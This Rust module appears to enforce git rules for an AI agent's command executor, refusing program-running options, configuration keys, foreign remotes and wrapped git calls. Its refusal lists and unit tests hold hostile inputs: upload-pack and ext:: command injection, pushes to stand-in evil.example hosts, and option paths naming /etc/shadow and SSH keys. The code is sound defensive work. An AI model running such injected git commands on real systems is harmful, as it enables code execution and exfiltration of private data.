//! The git rules. `run_git_command` reaches the executor as a `git` program
//! with arguments (the service maps it to `runCommand`), and git can run
//! programs in many ways: global options (`-c`, `--exec-path`), options of a
//! subcommand (`--upload-pack`, `--ext-diff`, `grep -O`), the repository's own
//! configuration (`core.fsmonitor`, filters, hooks) and remote helpers. So:
//!
//! - the subcommand comes first and is one of [`SUBCOMMANDS`];
//! - options that run programs, change configuration, sign with the user's
//!   key or reach outside the workspace are refused anywhere in the
//!   arguments, with git's abbreviations of long options;
//! - options naming a file must name one inside the workspace, not in `.git`;
//! - `fetch`, `pull` and `push` only talk to a remote configured in the
//!   repository (never a URL or a path the agent chose);
//! - the configuration git would read is listed first (with the overrides of
//!   [`crate::environment`] in force) and git is not run while it sets a key
//!   that runs a program and cannot be overridden.
//!
//! A program that wraps git (`env git`, `sh -c 'git ...'`) would go around
//! all this, so [`classify_program`] refuses such commands; any git they
//! start anyway still runs under the environment's overrides.

use crate::workspace::Workspace;
use std::collections::BTreeSet;

/// Subcommands an agent may run.
pub const SUBCOMMANDS: &[&str] = &[
    "add",
    "blame",
    "branch",
    "checkout",
    "commit",
    "describe",
    "diff",
    "fetch",
    "grep",
    "log",
    "ls-files",
    "merge-base",
    "mv",
    "pull",
    "push",
    "reset",
    "restore",
    "rev-list",
    "rev-parse",
    "rm",
    "shortlog",
    "show",
    "stash",
    "status",
    "switch",
];

/// Subcommands that talk to a remote.
pub const NETWORK_SUBCOMMANDS: &[&str] = &["fetch", "pull", "push"];

/// Subcommands that may write a commit (and so need an identity).
pub const COMMITTING_SUBCOMMANDS: &[&str] = &["commit", "pull", "stash"];

/// Long options refused with every subcommand, and why. A prefix of one of
/// these is refused too: git accepts any unambiguous abbreviation.
const REFUSED_LONG: &[(&str, &str)] = &[
    ("upload-pack", "it runs a program"),
    ("receive-pack", "it runs a program"),
    ("exec", "it runs a program"),
    ("ext-diff", "it runs an external diff program"),
    ("textconv", "it runs text conversion programs"),
    ("config", "it changes git's configuration"),
    ("config-env", "it changes git's configuration"),
    ("open-files-in-pager", "it runs a pager program"),
    ("no-index", "it reads files outside the repository"),
    (
        "recurse-submodules",
        "submodules run git under their own configuration",
    ),
    (
        "recurse-submodules-default",
        "submodules run git under their own configuration",
    ),
    ("gpg-sign", "it runs gpg and signs with the user's key"),
    ("show-signature", "it runs gpg"),
    ("strategy", "a merge strategy is a program"),
    ("repo", "the repository must be a configured remote"),
    ("multiple", "the repository must be a configured remote"),
];

/// Long options whose value is a file: it must be inside the workspace.
const PATH_LONG: &[&str] = &[
    "output",
    "file",
    "template",
    "pathspec-from-file",
    "contents",
    "ignore-revs-file",
    "exclude-from",
];

/// Complete option names that happen to be prefixes of the names above and
/// are harmless (`diff --text`, `log --exclude=<glob>`).
const EXACT_HARMLESS: &[&str] = &["text", "exclude"];

/// Short options per subcommand (a letter means different things in each):
/// refused letters, letters whose value is a file, and letters whose value
/// is the rest of the argument or the next one (the scan of a bundle such as
/// `-mSummary` stops there).
struct ShortRules {
    refused: &'static str,
    path: &'static str,
    value: &'static str,
}

fn short_rules(subcommand: &str) -> ShortRules {
    let rules = |refused, path, value| ShortRules {
        refused,
        path,
        value,
    };
    match subcommand {
        // -S signs with gpg; -F and -t read a file.
        "commit" => rules("S", "Ft", "mcC"),
        // -u: fetch's --update-head-ok (clone's --upload-pack).
        "fetch" => rules("u", "", ""),
        // -s: a strategy program; -S: gpg.
        "pull" => rules("usS", "", ""),
        // -O opens the files in a pager; -f reads patterns from a file.
        "grep" => rules("O", "f", "eABCm"),
        // -O<orderfile>.
        "diff" | "log" | "show" | "stash" => rules("", "O", ""),
        // -X <exclude file>.
        "ls-files" => rules("", "X", "x"),
        // -S <revs-file>.
        "blame" => rules("", "S", "L"),
        _ => rules("", "", ""),
    }
}

/// Options of the network subcommands that take the next argument as their
/// value (so it is not the repository).
const NETWORK_VALUE_LONG: &[&str] = &[
    "push-option",
    "server-option",
    "depth",
    "deepen",
    "shallow-since",
    "shallow-exclude",
    "jobs",
    "negotiation-tip",
    "filter",
    "refmap",
    "submodule-prefix",
    "strategy-option",
];
const NETWORK_VALUE_SHORT: &str = "ojX";

/// Programs that start other programs from their arguments: shells,
/// interpreters and wrappers. Given one of these, an argument naming git is
/// refused (git is run directly, under its rules).
const WRAPPERS: &[&str] = &[
    "env", "nice", "nohup", "timeout", "stdbuf", "setsid", "xargs", "command", "exec", "time",
    "ionice", "chrt", "taskset", "sudo", "doas", "su", "runuser", "flock", "unbuffer", "script",
    "watch", "strace", "ltrace", "busybox", "find", "make", "sh", "bash", "dash", "zsh", "ksh",
    "mksh", "ash", "fish", "csh", "tcsh", "awk", "gawk", "mawk", "perl", "ruby", "node", "php",
    "lua", "tclsh", "expect",
];
/// Interpreter families matched by prefix (`python3.12`).
const WRAPPER_PREFIXES: &[&str] = &["python", "pypy", "perl", "ruby", "node", "php", "lua"];

/// Configuration keys the environment sets (command-line scope, read last):
/// whatever the repository says, these values win.
pub const OVERRIDES: &[(&str, &str)] = &[
    // Programs git would otherwise run from the repository's configuration.
    ("core.fsmonitor", "false"),
    ("core.hooksPath", "/dev/null"),
    ("core.pager", "cat"),
    ("core.editor", ":"),
    ("sequence.editor", ":"),
    ("core.sshCommand", "ssh"),
    ("core.askPass", ""),
    // The empty helper clears the list of credential helpers.
    ("credential.helper", ""),
    // No gpg, and no signing with the user's key.
    ("commit.gpgSign", "false"),
    ("tag.gpgSign", "false"),
    ("log.showSignature", "false"),
    // Submodules keep their own configuration: do not descend into them.
    ("submodule.recurse", "false"),
    ("fetch.recurseSubmodules", "false"),
    ("push.recurseSubmodules", "no"),
    ("diff.ignoreSubmodules", "all"),
    // A bare repository written into the workspace is never picked up.
    ("safe.bareRepository", "explicit"),
    // No background maintenance outliving the command's timeout.
    ("gc.auto", "0"),
    ("maintenance.auto", "false"),
];

/// Last name parts of configuration keys that run a program (or move the
/// work tree) and cannot be neutralised by an override.
const PROGRAM_KEY_NAMES: &[&str] = &[
    "program",
    "cmd",
    "command",
    "helper",
    "textconv",
    "driver",
    "difffilter",
    "sshcommand",
    "editor",
    "askpass",
    "gitproxy",
    "alternaterefscommand",
    "packobjectshook",
    "clean",
    "smudge",
    "process",
    "uploadpack",
    "receivepack",
    "vcs",
    "external",
    "worktree",
    "hookspath",
    "fsmonitor",
];

/// Why a git command is not run.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum GitRefusal {
    #[error("git needs a subcommand")]
    NoSubcommand,
    #[error("git options before the subcommand are not allowed ({0}); name the subcommand first")]
    GlobalOption(String),
    #[error("git {0} is not allowed here; allowed subcommands: {list}", list = SUBCOMMANDS.join(", "))]
    Subcommand(String),
    #[error("the git option {option} is not allowed: {why}")]
    Option { option: String, why: &'static str },
    #[error(
        "the git option {option} must name a file inside the workspace (not in .git): {path:?}"
    )]
    OptionPath { option: String, path: String },
    #[error("git {subcommand} talks only to a remote configured in the repository, not {given:?}")]
    Remote { subcommand: String, given: String },
    #[error(
        "the repository's git configuration sets {0}, which runs a program or leaves the workspace; git is not run while it is set"
    )]
    Config(String),
    #[error("could not read the repository's git configuration: {0}")]
    ConfigUnreadable(String),
    #[error(
        "{program} would run git around its rules; use run_git_command (or git as the program)"
    )]
    Wrapped { program: String },
    #[error("{0} is one of git's helper programs; use run_git_command")]
    Helper(String),
}

/// A git command that passed the argument rules.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GitCommand {
    pub subcommand: String,
    /// All arguments, the subcommand first.
    pub arguments: Vec<String>,
    /// The first positional argument of `fetch`/`pull`/`push` (the
    /// repository), checked against the configured remotes later.
    pub repository: Option<String>,
}

impl GitCommand {
    pub fn is_network(&self) -> bool {
        NETWORK_SUBCOMMANDS.contains(&self.subcommand.as_str())
    }

    pub fn commits(&self) -> bool {
        COMMITTING_SUBCOMMANDS.contains(&self.subcommand.as_str())
    }
}

/// What a `runCommand` program is, for the rules.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ProgramKind {
    /// git itself (by name or by path): run the real git under its rules.
    Git,
    Other,
}

fn base_name(program: &str) -> &str {
    program.rsplit('/').next().unwrap_or(program)
}

fn is_wrapper(name: &str) -> bool {
    WRAPPERS.contains(&name) || WRAPPER_PREFIXES.iter().any(|p| name.starts_with(p))
}

/// Whether `text` names git as a word: `git`, `/usr/bin/git`, `git-lfs`,
/// `x && git status`, but not `.gitignore`, `digit` or `github`.
fn mentions_git(text: &str) -> bool {
    let bytes = text.as_bytes();
    let word = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    text.match_indices("git").any(|(at, _)| {
        let before = at.checked_sub(1).map(|i| bytes[i]);
        let after = bytes.get(at + 3).copied();
        let starts = before.is_none_or(|b| !(word(b) || b == b'.' || b == b'-'));
        let ends = after.is_none_or(|b| !word(b));
        starts && ends
    })
}

/// Sorts a `runCommand` program: git goes through [`check_arguments`]; git's
/// helper programs and wrappers naming git are refused.
pub fn classify_program(program: &str, arguments: &[String]) -> Result<ProgramKind, GitRefusal> {
    let name = base_name(program);
    if name == "git" {
        return Ok(ProgramKind::Git);
    }
    if name.starts_with("git-") {
        return Err(GitRefusal::Helper(name.to_owned()));
    }
    if is_wrapper(name) && arguments.iter().any(|a| mentions_git(a)) {
        return Err(GitRefusal::Wrapped {
            program: name.to_owned(),
        });
    }
    Ok(ProgramKind::Other)
}

/// The long option's name (without `--` and `=value`) and its inline value.
fn split_long(argument: &str) -> Option<(&str, Option<&str>)> {
    let rest = argument.strip_prefix("--")?;
    if rest.is_empty() {
        return None;
    }
    Some(match rest.split_once('=') {
        Some((name, value)) => (name, Some(value)),
        None => (rest, None),
    })
}

/// Whether `given` is `option` or an abbreviation git would accept for it.
fn abbreviates(given: &str, option: &str) -> bool {
    !given.is_empty() && option.starts_with(given)
}

/// A file named by an option: inside the workspace, not in `.git`; `-` is
/// standard input or output, which the executor closes or captures.
fn check_option_path(
    workspace: &Workspace,
    option: &str,
    value: Option<&str>,
) -> Result<(), GitRefusal> {
    let Some(path) = value else {
        // The option was last: git will complain about the missing value.
        return Ok(());
    };
    if path == "-" {
        return Ok(());
    }
    workspace
        .resolve(path)
        .map(|_| ())
        .map_err(|_| GitRefusal::OptionPath {
            option: option.to_owned(),
            path: path.to_owned(),
        })
}

/// Checks the arguments (the subcommand first) of a git command.
pub fn check_arguments(
    arguments: &[String],
    workspace: &Workspace,
) -> Result<GitCommand, GitRefusal> {
    let Some(first) = arguments.first() else {
        return Err(GitRefusal::NoSubcommand);
    };
    if first.starts_with('-') {
        return Err(GitRefusal::GlobalOption(first.clone()));
    }
    if first.is_empty() {
        return Err(GitRefusal::NoSubcommand);
    }
    let subcommand = first.as_str();
    if !SUBCOMMANDS.contains(&subcommand) {
        return Err(GitRefusal::Subcommand(first.chars().take(60).collect()));
    }
    let network = NETWORK_SUBCOMMANDS.contains(&subcommand);
    let short = short_rules(subcommand);
    let rest = &arguments[1..];
    let mut repository = None;
    let mut skip_value = false;
    let mut index = 0;
    while index < rest.len() {
        let argument = rest[index].as_str();
        let next = rest.get(index + 1).map(String::as_str);
        index += 1;
        // Every argument is checked, option values included: a value that
        // looks like a refused option is refused (harmless over-caution).
        let value_of_previous = std::mem::take(&mut skip_value);
        if let Some((name, inline)) = split_long(argument) {
            if !EXACT_HARMLESS.contains(&name) {
                if let Some((_, why)) = REFUSED_LONG
                    .iter()
                    .find(|(option, _)| abbreviates(name, option))
                {
                    return Err(GitRefusal::Option {
                        option: format!("--{name}"),
                        why,
                    });
                }
                if PATH_LONG.iter().any(|option| abbreviates(name, option)) {
                    check_option_path(workspace, &format!("--{name}"), inline.or(next))?;
                }
            }
            if network
                && inline.is_none()
                && NETWORK_VALUE_LONG
                    .iter()
                    .any(|option| abbreviates(name, option))
            {
                skip_value = true;
            }
            continue;
        }
        if argument == "--" {
            continue;
        }
        if let Some(letters) = argument.strip_prefix('-')
            && !letters.is_empty()
        {
            for (at, letter) in letters.char_indices() {
                if short.refused.contains(letter) {
                    return Err(GitRefusal::Option {
                        option: format!("-{letter}"),
                        why: "it runs a program or signs with the user's key",
                    });
                }
                let attached = &letters[at + letter.len_utf8()..];
                if short.path.contains(letter) {
                    let value = if attached.is_empty() {
                        next
                    } else {
                        Some(attached)
                    };
                    check_option_path(workspace, &format!("-{letter}"), value)?;
                    break;
                }
                if network && NETWORK_VALUE_SHORT.contains(letter) {
                    skip_value = attached.is_empty();
                    break;
                }
                if short.value.contains(letter) {
                    break;
                }
            }
            continue;
        }
        if network && !value_of_previous {
            check_network_positional(subcommand, argument)?;
            if repository.is_none() {
                repository = Some(argument.to_owned());
            }
        }
    }
    Ok(GitCommand {
        subcommand: subcommand.to_owned(),
        arguments: arguments.to_vec(),
        repository,
    })
}

/// A positional of `fetch`/`pull`/`push` that reads as a URL or a path is
/// refused outright, wherever it stands.
fn check_network_positional(subcommand: &str, argument: &str) -> Result<(), GitRefusal> {
    let looks_like_location = argument.contains("://")
        || argument.contains("::")
        || argument.starts_with('/')
        || argument.starts_with('~')
        || argument.starts_with('.')
        || argument.contains('@') && argument.contains(':');
    if looks_like_location {
        return Err(GitRefusal::Remote {
            subcommand: subcommand.to_owned(),
            given: argument.to_owned(),
        });
    }
    Ok(())
}

/// What the configuration listing says.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ConfigFacts {
    /// Names of the configured remotes (`remote.<name>.url`).
    pub remotes: BTreeSet<String>,
    pub has_user_name: bool,
    pub has_user_email: bool,
}

/// Whether a configuration key runs a program (or moves the work tree) and
/// is not one the environment overrides.
pub fn is_dangerous_key(key: &str, value: Option<&str>) -> bool {
    let lower = key.to_ascii_lowercase();
    if OVERRIDES
        .iter()
        .any(|(overridden, _)| overridden.eq_ignore_ascii_case(&lower))
    {
        return false;
    }
    let last = lower.rsplit('.').next().unwrap_or(&lower);
    if PROGRAM_KEY_NAMES.contains(&last) {
        return true;
    }
    // `submodule.<name>.update = !command`.
    last == "update" && value.is_some_and(|v| v.trim_start().starts_with('!'))
}

/// Checks `git config --list -z` output: refuses dangerous keys, collects
/// the remotes and whether an identity is set.
pub fn check_config(listing: &[u8]) -> Result<ConfigFacts, GitRefusal> {
    let mut facts = ConfigFacts::default();
    for entry in listing.split(|b| *b == 0).filter(|e| !e.is_empty()) {
        let entry = String::from_utf8_lossy(entry);
        let (key, value) = match entry.split_once('\n') {
            Some((key, value)) => (key, Some(value)),
            None => (entry.as_ref(), None),
        };
        if is_dangerous_key(key, value) {
            return Err(GitRefusal::Config(key.to_owned()));
        }
        let lower = key.to_ascii_lowercase();
        if lower == "user.name" {
            facts.has_user_name = value.is_some_and(|v| !v.is_empty());
        } else if lower == "user.email" {
            facts.has_user_email = value.is_some_and(|v| !v.is_empty());
        } else if lower.starts_with("remote.") && lower.ends_with(".url") {
            // The subsection keeps its case: `remote.Origin.url`.
            let name = &key["remote.".len()..key.len() - ".url".len()];
            facts.remotes.insert(name.to_owned());
        }
    }
    Ok(facts)
}

/// `fetch`/`pull`/`push` name a configured remote (or none: the default).
pub fn check_remote(command: &GitCommand, facts: &ConfigFacts) -> Result<(), GitRefusal> {
    match &command.repository {
        Some(name) if !facts.remotes.contains(name) => Err(GitRefusal::Remote {
            subcommand: command.subcommand.clone(),
            given: name.clone(),
        }),
        _ => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn workspace() -> (tempdir::Dir, Workspace) {
        let dir = tempdir::Dir::new();
        let workspace = Workspace::new(&dir.0).unwrap();
        (dir, workspace)
    }

    mod tempdir {
        pub struct Dir(pub std::path::PathBuf);
        impl Dir {
            pub fn new() -> Self {
                let path = std::env::temp_dir().join(format!(
                    "git-rules-{}-{:?}",
                    std::process::id(),
                    std::thread::current().id()
                ));
                let _ = std::fs::create_dir_all(&path);
                Self(path)
            }
        }
        impl Drop for Dir {
            fn drop(&mut self) {
                let _ = std::fs::remove_dir_all(&self.0);
            }
        }
    }

    fn args(text: &[&str]) -> Vec<String> {
        text.iter().map(|s| (*s).to_owned()).collect()
    }

    fn check(text: &[&str]) -> Result<GitCommand, GitRefusal> {
        let (_dir, ws) = workspace();
        check_arguments(&args(text), &ws)
    }

    #[test]
    fn everyday_commands_pass() {
        for command in [
            &["status", "--porcelain"][..],
            &["diff", "--stat", "HEAD~1", "--", "src"],
            &["diff", "--text", "--no-ext-diff", "--no-textconv"],
            &[
                "log",
                "--oneline",
                "-n",
                "5",
                "--exclude=refs/tags/*",
                "--all",
            ],
            &["log", "-c", "-p", "-1"],
            &["show", "HEAD:README.md"],
            &["add", "-A"],
            &["commit", "-q", "-a", "-m", "Fix the -O flag's docs"],
            &["commit", "-amSummary"],
            &["grep", "-e-O"],
            &["commit", "-F", "message.txt"],
            &["branch", "-u", "origin/main"],
            &["checkout", "-b", "feature"],
            &["grep", "-n", "-e", "needle", "--", "*.rs"],
            &["grep", "-c", "x"],
            &["rev-parse", "--git-dir", "--show-toplevel"],
            &["stash", "push", "-m", "wip"],
            &["reset", "--hard", "HEAD"],
            &["push", "-q", "origin", "HEAD:main"],
            &["push", "-u", "origin", "feature"],
            &["push", "-o", "ci.skip", "origin", "main"],
            &["fetch", "--depth", "1", "origin"],
            &["pull", "--rebase", "origin", "main"],
            &["push"],
        ] {
            assert!(check(command).is_ok(), "{command:?}: {:?}", check(command));
        }
        assert_eq!(
            check(&["push", "-o", "ci.skip", "origin", "main"])
                .unwrap()
                .repository
                .as_deref(),
            Some("origin")
        );
        assert_eq!(
            check(&["fetch", "--depth", "1", "upstream"])
                .unwrap()
                .repository
                .as_deref(),
            Some("upstream")
        );
    }

    #[test]
    fn global_options_and_unknown_subcommands_are_refused() {
        for command in [
            &["-c", "core.pager=sh", "log"][..],
            &["--exec-path=/tmp", "status"],
            &["--git-dir=/tmp/x", "status"],
            &["--work-tree=/", "status"],
            &["-C", "/", "status"],
            &["--config-env=core.pager=X", "log"],
            &["--namespace=x", "log"],
            &["--no-pager", "log"],
        ] {
            assert!(
                matches!(check(command), Err(GitRefusal::GlobalOption(_))),
                "{command:?}"
            );
        }
        for command in [
            "config",
            "submodule",
            "clone",
            "remote",
            "archive",
            "daemon",
            "filter-branch",
            "rebase",
            "am",
            "apply",
            "difftool",
            "mergetool",
            "bisect",
            "instaweb",
            "help",
            "sh",
            "upload-pack",
            "credential",
            "lol",
        ] {
            assert!(
                matches!(check(&[command]), Err(GitRefusal::Subcommand(_))),
                "{command}"
            );
        }
        assert_eq!(check(&[]), Err(GitRefusal::NoSubcommand));
    }

    #[test]
    fn options_that_run_programs_are_refused_also_abbreviated() {
        for command in [
            &["fetch", "--upload-pack=touch /tmp/x", "origin"][..],
            &["fetch", "--upload-p", "touch /tmp/x", "origin"],
            &["pull", "--upload-pack", "x"],
            &["push", "--receive-pack=x", "origin"],
            &["push", "--exec=x", "origin"],
            &["push", "--repo=/tmp/evil"],
            &["fetch", "-u", "origin"],
            &["pull", "-qu", "origin"],
            &["pull", "-s", "ours"],
            &["pull", "--strategy=ours"],
            &["diff", "--ext-diff"],
            &["diff", "--ext"],
            &["log", "-p", "--textconv"],
            &["show", "--textc"],
            &["grep", "-O", "x"],
            &["grep", "-nO", "x"],
            &["grep", "--open-files-in-pager=vi", "x"],
            &["grep", "--open", "x"],
            &["diff", "--no-index", "/etc/passwd", "/dev/null"],
            &["grep", "--no-index", "x", "/etc"],
            &["log", "--config=core.pager=x"],
            &["commit", "-S", "-m", "x"],
            &["commit", "--gpg-sign", "-m", "x"],
            &["log", "--show-signature"],
            &["checkout", "--recurse-submodules", "main"],
            &["fetch", "--multiple", "origin", "evil"],
        ] {
            assert!(
                matches!(check(command), Err(GitRefusal::Option { .. })),
                "{command:?}: {:?}",
                check(command)
            );
        }
    }

    #[test]
    fn files_named_by_options_stay_inside_the_workspace() {
        for command in [
            &["log", "--output=/tmp/x"][..],
            &["diff", "--output", "../x"],
            &["log", "--out=/tmp/x"],
            &["commit", "-F", "/etc/shadow"],
            &["commit", "-qF/etc/shadow"],
            &["commit", "--file=/etc/shadow"],
            &["commit", "-t", "/etc/passwd"],
            &["commit", "--template=../../x"],
            &["add", "--pathspec-from-file=/home/u/.ssh/id_rsa"],
            &["blame", "--contents", "/etc/passwd", "README"],
            &["blame", "--ignore-revs-file=/etc/passwd", "README"],
            &["blame", "-S", "/etc/passwd", "README"],
            &["grep", "-f", "/etc/passwd"],
            &["diff", "-O/etc/passwd"],
            &["ls-files", "--exclude-from=/etc/passwd"],
            &["ls-files", "-X", "/etc/passwd"],
            &["log", "--output=.git/hooks/pre-commit"],
        ] {
            assert!(
                matches!(check(command), Err(GitRefusal::OptionPath { .. })),
                "{command:?}: {:?}",
                check(command)
            );
        }
        assert!(check(&["log", "--output=log.txt"]).is_ok());
        assert!(check(&["commit", "-F", "-"]).is_ok());
    }

    #[test]
    fn network_commands_name_no_url_or_path() {
        for command in [
            &["push", "https://evil.example/x.git", "HEAD"][..],
            &["push", "/tmp/evil"],
            &["push", "./evil"],
            &["fetch", "../evil"],
            &["fetch", "ext::sh -c touch% /tmp/x"],
            &["pull", "git@evil.example:x.git"],
            &["push", "~/evil"],
            &["fetch", "--depth=1", "file:///tmp/x"],
            &["push", "origin", "https://evil.example/x"],
        ] {
            assert!(
                matches!(check(command), Err(GitRefusal::Remote { .. })),
                "{command:?}: {:?}",
                check(command)
            );
        }
        let facts = ConfigFacts {
            remotes: ["origin".to_owned()].into(),
            ..ConfigFacts::default()
        };
        let push = check(&["push", "origin", "main"]).unwrap();
        assert_eq!(check_remote(&push, &facts), Ok(()));
        let evil = check(&["push", "evil", "main"]).unwrap();
        assert!(matches!(
            check_remote(&evil, &facts),
            Err(GitRefusal::Remote { .. })
        ));
        assert_eq!(check_remote(&check(&["push"]).unwrap(), &facts), Ok(()));
    }

    #[test]
    fn wrapped_git_and_helpers_are_refused() {
        assert_eq!(classify_program("git", &[]), Ok(ProgramKind::Git));
        assert_eq!(classify_program("/usr/bin/git", &[]), Ok(ProgramKind::Git));
        for (program, arguments) in [
            ("env", &["git", "status"][..]),
            ("sh", &["-c", "git -c core.pager=x log"]),
            ("bash", &["-c", "cd . && /usr/bin/git status"]),
            ("/bin/sh", &["-c", "exec git log"]),
            ("xargs", &["git"]),
            ("python3", &["-c", "import os; os.system('git log')"]),
            ("find", &[".", "-exec", "git", "log", ";"]),
        ] {
            assert!(
                matches!(
                    classify_program(program, &args(arguments)),
                    Err(GitRefusal::Wrapped { .. })
                ),
                "{program} {arguments:?}"
            );
        }
        assert!(matches!(
            classify_program("git-upload-pack", &[]),
            Err(GitRefusal::Helper(_))
        ));
        for (program, arguments) in [
            ("sh", &["-c", "cat .gitignore; echo digit github"][..]),
            ("cargo", &["test"]),
            ("echo", &["git"]),
        ] {
            assert_eq!(
                classify_program(program, &args(arguments)),
                Ok(ProgramKind::Other),
                "{program} {arguments:?}"
            );
        }
    }

    #[test]
    fn configuration_that_runs_programs_is_refused() {
        let listing = |entries: &[&str]| entries.join("\0").into_bytes();
        for key in [
            "filter.lfs.clean",
            "filter.x.smudge",
            "filter.x.process",
            "diff.external",
            "diff.x.textconv",
            "diff.x.command",
            "merge.x.driver",
            "core.worktree",
            "core.gitProxy",
            "remote.origin.uploadpack",
            "remote.origin.receivepack",
            "remote.origin.vcs",
            "gpg.program",
            "gpg.ssh.program",
            "credential.https://example.com.helper",
            "interactive.diffFilter",
            "core.alternateRefsCommand",
        ] {
            let entry = format!("{key}\nx");
            assert_eq!(
                check_config(&listing(&[entry.as_str()])),
                Err(GitRefusal::Config(key.to_owned())),
                "{key}"
            );
        }
        assert!(check_config(&listing(&["submodule.x.update\n!sh evil"])).is_err());
        let facts = check_config(&listing(&[
            "core.fsmonitor\n/tmp/evil",
            "core.hookspath\n/tmp/hooks",
            "core.sshcommand\nevil",
            "credential.helper\nstore",
            "core.fsmonitor\nfalse",
            "user.name\nAlice",
            "remote.Origin.url\nhttps://example.com/x.git",
            "submodule.x.update\ncheckout",
            "core.bare\nfalse",
            "pager.log",
        ]))
        .unwrap();
        assert!(facts.has_user_name && !facts.has_user_email);
        assert_eq!(facts.remotes, ["Origin".to_owned()].into());
    }
}
